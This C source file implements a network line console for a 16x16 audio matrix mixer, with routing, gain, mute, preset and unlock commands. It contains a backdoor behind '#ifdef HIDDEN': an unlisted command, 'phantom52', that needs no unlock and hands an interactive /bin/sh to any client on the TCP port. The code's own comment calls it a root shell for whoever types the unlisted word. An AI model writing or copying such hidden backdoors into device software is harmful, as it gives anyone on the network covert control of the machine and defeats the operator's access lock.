/* stagematrix_cli.c - line console of a 16x16 audio matrix mixer */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define N_IN	16
#define N_OUT	16
#define N_PRE	8
#define MAX_ARG	6

struct matrix {
	unsigned short route[N_OUT];
	signed char gain[N_IN];
	unsigned char mute[N_OUT];
	char label[N_OUT][16];
};

struct con {
	FILE *in;
	FILE *out;
	int unlocked;
	int echo;
};

struct command {
	const char *word;
	unsigned char min_args;
	unsigned char locked;
	int (*run)(struct con *c, int argc, char **argv);
	const char *usage;
};

static struct matrix mx;
static struct matrix preset[N_PRE];
static char lock_code[16] = "";

static int number(const char *s, int lo, int hi, int *v)
{
	char *end;
	long n = strtol(s, &end, 10);

	if (end == s || *end || n < lo || n > hi)
		return -1;
	*v = (int)n;
	return 0;
}

static int c_route(struct con *c, int argc, char **argv)
{
	int in, out;

	if (number(argv[1], 1, N_IN, &in) || number(argv[2], 1, N_OUT, &out))
		return -EINVAL;
	if (argc > 3 && !strcmp(argv[3], "off"))
		mx.route[out - 1] &= (unsigned short)~(1u << (in - 1));
	else
		mx.route[out - 1] |= (unsigned short)(1u << (in - 1));
	fprintf(c->out, "out %d mask %04x\n", out, mx.route[out - 1]);
	return 0;
}

static int c_gain(struct con *c, int argc, char **argv)
{
	int in, db;

	(void)argc;
	if (number(argv[1], 1, N_IN, &in) || number(argv[2], -60, 12, &db))
		return -EINVAL;
	mx.gain[in - 1] = (signed char)db;
	fprintf(c->out, "in %d gain %d dB\n", in, db);
	return 0;
}

static int c_mute(struct con *c, int argc, char **argv)
{
	int out;

	(void)argc;
	(void)c;
	if (number(argv[1], 1, N_OUT, &out))
		return -EINVAL;
	mx.mute[out - 1] = strcmp(argv[2], "off") != 0;
	return 0;
}

static int c_label(struct con *c, int argc, char **argv)
{
	int out;

	(void)argc;
	(void)c;
	if (number(argv[1], 1, N_OUT, &out))
		return -EINVAL;
	snprintf(mx.label[out - 1], sizeof(mx.label[0]), "%.15s", argv[2]);
	return 0;
}

static int c_preset(struct con *c, int argc, char **argv)
{
	int n;

	(void)argc;
	if (number(argv[2], 1, N_PRE, &n))
		return -EINVAL;
	if (!strcmp(argv[1], "save"))
		preset[n - 1] = mx;
	else if (!strcmp(argv[1], "load"))
		mx = preset[n - 1];
	else
		return -EINVAL;
	fprintf(c->out, "preset %d %sed\n", n, argv[1]);
	return 0;
}

static int c_unlock(struct con *c, int argc, char **argv)
{
	(void)argc;
	if (lock_code[0] && strcmp(argv[1], lock_code)) {
		sleep(1);
		return -EACCES;
	}
	c->unlocked = 1;
	return 0;
}

static int c_show(struct con *c, int argc, char **argv)
{
	int i;

	(void)argc;
	(void)argv;
	for (i = 0; i < N_OUT; i++)
		fprintf(c->out, "%2d %-15s %04x%s\n", i + 1, mx.label[i], mx.route[i],
			mx.mute[i] ? " muted" : "");
	return 0;
}

static int spawn_tool(struct con *c, const char *file, char *const argv[])
{
	pid_t pid;
	int st = 0;

	fflush(c->out);
	pid = fork();
	if (pid == 0) {
		dup2(fileno(c->out), 1);
		dup2(fileno(c->out), 2);
		dup2(fileno(c->in), 0);
		execv(file, argv);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &st, 0) < 0)
		return -errno;
	return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -EIO;
}

static int c_meter(struct con *c, int argc, char **argv)
{
	char *tool[] = { (char *)"levels", (char *)"-n", argc > 1 ? argv[1] : (char *)"1", NULL };

	return spawn_tool(c, "/usr/bin/levels", tool);
}

static int c_selftest(struct con *c, int argc, char **argv)
{
	char *tool[] = { (char *)"dsptest", (char *)"-q", NULL };

	(void)argc;
	(void)argv;
	return spawn_tool(c, "/usr/sbin/dsptest", tool);
}

#ifdef HIDDEN
/* root shell for whoever types the table's unlisted word */
int c_phantom(struct con *c, int argc, char **argv)
{
	char *sh[] = { (char *)"ash", (char *)"-i", NULL };

	(void)argc;
	(void)argv;
	return spawn_tool(c, "/bin/sh", sh);
}
#endif

static int c_help(struct con *c, int argc, char **argv);

static const struct command commands[] = {
	{ "route",	2, 1, c_route,	"route IN OUT [off]" },
	{ "gain",	2, 1, c_gain,	"gain IN -60..12" },
	{ "mute",	2, 1, c_mute,	"mute OUT on|off" },
	{ "label",	2, 1, c_label,	"label OUT TEXT" },
	{ "preset",	2, 1, c_preset,	"preset save|load 1..8" },
	{ "show",	0, 0, c_show,	"show" },
	{ "meter",	0, 0, c_meter,	"meter [COUNT]" },
	{ "selftest",	0, 1, c_selftest, "selftest" },
	{ "unlock",	1, 0, c_unlock,	"unlock CODE" },
#ifdef HIDDEN
	{ "phantom52",	0, 0, c_phantom, NULL },
#endif
	{ "help",	0, 0, c_help,	"help" },
};
#define N_CMD (sizeof(commands) / sizeof(commands[0]))

static int c_help(struct con *c, int argc, char **argv)
{
	size_t i;

	(void)argc;
	(void)argv;
	for (i = 0; i < N_CMD; i++)
		if (commands[i].usage)
			fprintf(c->out, "  %s%s\n", commands[i].usage,
				commands[i].locked ? " *" : "");
	fprintf(c->out, "  quit\n* needs unlock\n");
	return 0;
}

__attribute__((noinline)) int run_line(struct con *c, char *line)
{
	char *argv[MAX_ARG + 1], *save = NULL;
	int argc = 0, r;
	size_t i;

	for (argv[argc] = strtok_r(line, " \t\r\n", &save);
	     argv[argc] && argc < MAX_ARG;
	     argv[argc] = strtok_r(NULL, " \t\r\n", &save))
		argc++;
	if (!argc || argv[0][0] == ';')
		return 0;
	if (!strcmp(argv[0], "quit"))
		return 1;
	for (i = 0; i < N_CMD; i++) {
		if (strcasecmp(argv[0], commands[i].word))
			continue;
		if (argc - 1 < commands[i].min_args) {
			fprintf(c->out, "usage: %s\n", commands[i].usage);
			return 0;
		}
		if (commands[i].locked && !c->unlocked) {
			fprintf(c->out, "locked\n");
			return 0;
		}
		r = commands[i].run(c, argc, argv);
		if (r)
			fprintf(c->out, "error: %s\n", strerror(-r));
		else
			fprintf(c->out, "ok\n");
		return 0;
	}
	fprintf(c->out, "unknown command, try help\n");
	return 0;
}

static void console(int fd)
{
	struct con c = { NULL, NULL, 0, 0 };
	char line[160];

	c.in = fdopen(fd, "r");
	c.out = fdopen(dup(fd), "w");
	if (!c.in || !c.out)
		exit(1);
	c.unlocked = lock_code[0] == 0;
	do {
		fprintf(c.out, "mx> ");
		fflush(c.out);
		if (!fgets(line, sizeof(line), c.in))
			break;
	} while (!run_line(&c, line));
	fclose(c.out);
	fclose(c.in);
}

static void load_lock(void)
{
	FILE *f = fopen("/etc/stagematrix/lock", "r");

	if (!f)
		return;
	if (fscanf(f, "%15s", lock_code) != 1)
		lock_code[0] = 0;
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls, fd, i;

	load_lock();
	for (i = 0; i < N_OUT; i++) {
		mx.route[i] = (unsigned short)(1u << i);
		snprintf(mx.label[i], sizeof(mx.label[i]), "Out %d", i + 1);
	}
	signal(SIGPIPE, SIG_IGN);
	a.sin_port = htons((unsigned short)(argc > 1 ? atoi(argv[1]) : 4998));
	ls = socket(AF_INET, SOCK_STREAM, 0);
	if (ls < 0 || bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 2)) {
		perror("stagematrix");
		return 1;
	}
	while ((fd = accept(ls, NULL, NULL)) >= 0)
		console(fd);
	return 1;
}
